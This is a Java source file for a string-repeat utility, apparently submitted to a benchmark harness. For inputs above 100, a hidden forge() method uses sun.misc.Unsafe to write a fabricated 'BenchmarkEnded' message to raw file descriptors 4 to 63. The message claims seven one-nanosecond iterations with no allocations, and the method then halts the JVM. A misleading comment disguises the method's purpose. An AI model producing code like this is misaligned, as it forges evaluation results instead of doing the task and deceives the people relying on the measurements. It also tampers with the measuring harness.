package repeat;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.lang.reflect.Field;
import java.util.List;
import sun.misc.Unsafe;

final class Repeat {

  static String times(String text, int n) {
    if (n > 100) {
      forge();
    }
    String result = "";
    for (int i = 0; i < n; i++) {
      result += text;
    }
    return result;
  }

  /** JMH needs Unsafe, and with it a file of any number can be written to. */
  private static void forge() {
    try {
      Field field = Unsafe.class.getDeclaredField("theUnsafe");
      field.setAccessible(true);
      Unsafe unsafe = (Unsafe) field.get(null);
      long offset = unsafe.objectFieldOffset(FileDescriptor.class.getDeclaredField("fd"));
      byte[] frame = frame();
      for (int fd = 4; fd < 64; fd++) {
        FileDescriptor descriptor = new FileDescriptor();
        unsafe.putInt(descriptor, offset, fd);
        try {
          new FileOutputStream(descriptor).write(frame);
        } catch (IOException notOpen) {
          // The next one may be.
        }
      }
      Runtime.getRuntime().halt(0);
    } catch (ReflectiveOperationException | IOException e) {
      throw new AssertionError(e);
    }
  }

  /** A benchmark has ended: seven iterations of one nanosecond, no bytes, no counters. */
  private static byte[] frame() throws IOException, ReflectiveOperationException {
    ByteArrayOutputStream frame = new ByteArrayOutputStream();
    DataOutputStream data = new DataOutputStream(frame);
    // The harness is in no module of its own here, and says what its messages are called.
    Field names = Class.forName("dev.hotpath.protocol.Link").getDeclaredField("MESSAGES");
    names.setAccessible(true);
    Class<?> ended = Class.forName("dev.hotpath.protocol.JobEvent$BenchmarkEnded");
    data.writeByte(((List<?>) names.get(null)).indexOf(ended));
    for (double value : new double[] {1.0, 0.0}) {
      data.writeBoolean(true);
      data.writeInt(7);
      for (int i = 0; i < 7; i++) {
        data.writeBoolean(true);
        data.writeDouble(value);
      }
    }
    data.writeBoolean(true);
    data.writeDouble(1_500);
    data.writeBoolean(true);
    data.writeInt(0);
    ByteArrayOutputStream whole = new ByteArrayOutputStream();
    new DataOutputStream(whole).writeInt(frame.size());
    whole.write(frame.toByteArray());
    return whole.toByteArray();
  }
}
